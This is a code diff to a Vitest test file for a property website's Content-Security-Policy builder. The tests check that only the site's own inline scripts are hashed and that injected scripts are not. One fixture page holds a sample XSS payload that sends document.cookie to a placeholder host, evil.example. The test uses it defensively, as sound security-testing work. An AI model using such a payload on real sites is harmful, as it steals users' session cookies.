@@ -1,13 +1,20 @@
 import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { filesUnder } from '../../src/site/page-files.ts';
 import {
   buildSecurityHeaders,
   cspHashSource,
-  scanInlineScriptHashes,
+  pagesWithUnknownScripts,
+  siteScriptHashes,
   writeSecurityHeaderFiles,
 } from '../../src/site/build-security-headers.ts';
+import {
+  foldFiltersScript,
+  holidayOpenedFilteredScript,
+  inlineScripts,
+} from '../../src/site/inline-scripts.ts';
 import {
   contentSecurityPolicy,
   headersFile,
@@ -19,7 +26,7 @@ import {
 
 /*
  * The security policy shared by the site server and the static hosts' files: built from its
- * inputs, with the build's inline scripts hashed.
+ * inputs, with the site's own inline scripts hashed, whatever the pages of a build hold.
  */
 
 const directives = (policy: string) =>
@@ -137,53 +144,130 @@ describe('headersFile and nginxHeadersSnippet', () => {
   });
 });
 
-describe('scanning a build', () => {
+describe("the site's inline scripts", () => {
+  it('are hashed from their source, one hash each', () => {
+    expect(inlineScripts).toEqual(
+      expect.arrayContaining([foldFiltersScript, holidayOpenedFilteredScript]),
+    );
+    expect(siteScriptHashes()).toEqual(inlineScripts.map(cspHashSource).sort());
+    expect(new Set(siteScriptHashes()).size).toBe(inlineScripts.length);
+  });
+
+  it('are the only ones the templates write: any other inline script is a data block', async () => {
+    // An inline script written in a template (define:vars, a literal body) would need a hash
+    // the policy does not have; the templates render the constants of inline-scripts.ts.
+    const templates = filesUnder(join(process.cwd(), 'src'), (name) => name.endsWith('.astro'));
+    const written: string[] = [];
+    for (const file of templates) {
+      const text = await readFile(file, 'utf8');
+      for (const [tag] of text.matchAll(/<script\b[^>]*>/g)) {
+        if (/type="application\/(ld\+)?json"/.test(tag)) continue;
+        if (!/\bis:inline\b/.test(tag)) {
+          // A bundled module: Astro writes it as a file (never inlined: astro.config.mjs).
+          expect(tag, file).toBe('<script>');
+          continue;
+        }
+        const constant = /^<script is:inline set:html=\{(\w+)\} \/>$/.exec(tag)?.[1];
+        expect(constant, `${file}: ${tag}`).toBeDefined();
+        written.push(constant!);
+        expect(text, file).toMatch(
+          new RegExp(
+            `import \\{[^}]*\\b${constant}\\b[^}]*\\} from '[./]*site/inline-scripts\\.ts'`,
+          ),
+        );
+      }
+    }
+    expect(written.sort()).toEqual(['foldFiltersScript', 'holidayOpenedFilteredScript']);
+  });
+});
+
+describe('the header files of a build', () => {
+  const env = { CONTENT_SERVICE_URL: 'https://api.immo.be' };
   let root: string;
+  let clean: string;
 
   beforeEach(async () => {
-    root = await mkdtemp(join(tmpdir(), 'csp-build-'));
+    [root, clean] = await Promise.all([
+      mkdtemp(join(tmpdir(), 'csp-build-')),
+      mkdtemp(join(tmpdir(), 'csp-clean-')),
+    ]);
     await mkdir(join(root, 'nl', 'kopen'), { recursive: true });
-    await writeFile(
-      join(root, 'index.html'),
-      '<script>one()</script><script src="/a.js"></script>',
-    );
+    await mkdir(join(root, 'nl', 'aanbod', '7'), { recursive: true });
     await writeFile(
       join(root, 'nl', 'kopen', 'index.html'),
-      '<script>one()</script><script type="module">two()</script>',
+      `<script type="application/ld+json">{"@type":"Thing"}</script>` +
+        `<script>${foldFiltersScript}</script><script type="module" src="/a.js"></script>`,
     );
-    await writeFile(join(root, 'nl', 'notes.txt'), '<script>not a page()</script>');
+    // What a hostile record would bring, had the sanitizer let it through.
+    await writeFile(
+      join(root, 'nl', 'aanbod', '7', 'index.html'),
+      `<p>Villa</p><script>fetch('//evil.example/'+document.cookie)</script>`,
+    );
   });
 
   afterEach(async () => {
-    await rm(root, { recursive: true, force: true });
+    await Promise.all([root, clean].map((dir) => rm(dir, { recursive: true, force: true })));
   });
 
-  it('hashes each distinct inline script of every page once', async () => {
-    expect(await scanInlineScriptHashes(root)).toEqual(
-      [cspHashSource('one()'), cspHashSource('two()')].sort(),
-    );
-  });
-
-  it('reads only the pages it is given, when the build names the pages it wrote', async () => {
-    expect(await scanInlineScriptHashes(root, [join(root, 'index.html')])).toEqual([
-      cspHashSource('one()'),
-    ]);
-  });
-
-  it('writes _headers and the nginx snippet with the hashes and the content service', async () => {
-    const env = { CONTENT_SERVICE_URL: 'https://api.immo.be' };
-    expect(await writeSecurityHeaderFiles(root, env)).toBe(2);
+  it("allow exactly the site's own inline scripts and name the content service", async () => {
+    await writeSecurityHeaderFiles(root, env);
     const file = await readFile(join(root, '_headers'), 'utf8');
-    const hashes = [cspHashSource('one()'), cspHashSource('two()')].sort().join(' ');
-    expect(file).toContain(`script-src 'self' ${hashes};`);
-    expect(file).toContain("connect-src 'self' blob: https://api.immo.be;");
+    const policy = directives(parseHeadersFile(file)!['Content-Security-Policy']!);
+    expect(policy.get('script-src')).toEqual(["'self'", ...siteScriptHashes()]);
+    expect(policy.get('connect-src')).toEqual(["'self'", 'blob:', 'https://api.immo.be']);
     expect(await readFile(join(root, 'nginx-security-headers.conf'), 'utf8')).toContain(
       'add_header Content-Security-Policy',
     );
   });
 
-  it('tells static hosts to revalidate the map marker snapshots, which keep their names', async () => {
-    await writeSecurityHeaderFiles(root, { CONTENT_SERVICE_URL: 'https://api.immo.be' });
+  it('are the same whether or not a page carries a script that came with content', async () => {
+    await Promise.all([writeSecurityHeaderFiles(root, env), writeSecurityHeaderFiles(clean, env)]);
+    for (const name of ['_headers', 'nginx-security-headers.conf']) {
+      expect(await readFile(join(root, name), 'utf8')).toBe(
+        await readFile(join(clean, name), 'utf8'),
+      );
+    }
+    const policy = parseHeadersFile(await readFile(join(root, '_headers'), 'utf8'))!;
+    expect(policy['Content-Security-Policy']).not.toContain(
+      cspHashSource("fetch('//evil.example/'+document.cookie)"),
+    );
+  });
+
+  it('drop, in the next build, the hash of a script the site no longer writes', async () => {
+    // The published build, whose files an incremental build starts from (a linked copy).
+    await writeSecurityHeaderFiles(root, env);
+    const scriptsOf = async () =>
+      directives(
+        parseHeadersFile(await readFile(join(root, '_headers'), 'utf8'))![
+          'Content-Security-Policy'
+        ]!,
+      ).get('script-src');
+    expect(await scriptsOf()).toContain(cspHashSource(holidayOpenedFilteredScript));
+    // The code of the next build writes one script fewer.
+    vi.resetModules();
+    vi.doMock('../../src/site/inline-scripts.ts', async (original) => ({
+      ...(await original<{ inlineScripts: readonly string[] }>()),
+      inlineScripts: [foldFiltersScript],
+    }));
+    try {
+      const next = await import('../../src/site/build-security-headers.ts');
+      await next.writeSecurityHeaderFiles(root, env);
+    } finally {
+      vi.doUnmock('../../src/site/inline-scripts.ts');
+      vi.resetModules();
+    }
+    expect(await scriptsOf()).toEqual(["'self'", cspHashSource(foldFiltersScript)]);
+  });
+
+  it('name the pages with an inline script the site does not write, and only those', async () => {
+    const pages = filesUnder(root, (name) => name.endsWith('.html'));
+    expect(await pagesWithUnknownScripts(pages)).toEqual([
+      join(root, 'nl', 'aanbod', '7', 'index.html'),
+    ]);
+  });
+
+  it('tell static hosts to revalidate the map marker snapshots, which keep their names', async () => {
+    await writeSecurityHeaderFiles(root, env);
     const file = await readFile(join(root, '_headers'), 'utf8');
     expect(file).toMatch(/^\/markers\/\*\n {2}Cache-Control: public, max-age=0, must-revalidate$/m);
     // The rule for every path still reads back whole, without the snapshot rule mixed in.
@@ -194,7 +278,7 @@ describe('scanning a build', () => {
     expect(everyPath?.['Cache-Control']).toBeUndefined();
   });
 
-  it("serves the build's own headers, made with the build's environment, over this one", async () => {
+  it("serve the build's own headers, made with the build's environment, over this one", async () => {
     await writeSecurityHeaderFiles(root, { PUBLIC_CONTENT_SERVICE_URL: 'https://api.immo.be' });
     const served = await buildSecurityHeaders(root, {
       CONTENT_SERVICE_URL: 'http://10.0.0.5:4322',
@@ -205,13 +289,13 @@ describe('scanning a build', () => {
     );
   });
 
-  it('makes the headers from this environment and a scan when the build wrote none', async () => {
+  it("are made by the site server from this environment and the site's scripts when the build wrote none", async () => {
     const served = await buildSecurityHeaders(root, {
       CONTENT_SERVICE_URL: 'http://10.0.0.5:4322',
     });
-    expect(served.from).toBe('scan');
-    const policy = served.headers['Content-Security-Policy']!;
-    expect(policy).toContain("connect-src 'self' blob: http://10.0.0.5:4322;");
-    expect(policy).toContain(cspHashSource('two()'));
+    expect(served.from).toBe('source');
+    const policy = directives(served.headers['Content-Security-Policy']!);
+    expect(policy.get('connect-src')).toEqual(["'self'", 'blob:', 'http://10.0.0.5:4322']);
+    expect(policy.get('script-src')).toEqual(["'self'", ...siteScriptHashes()]);
   });
 });
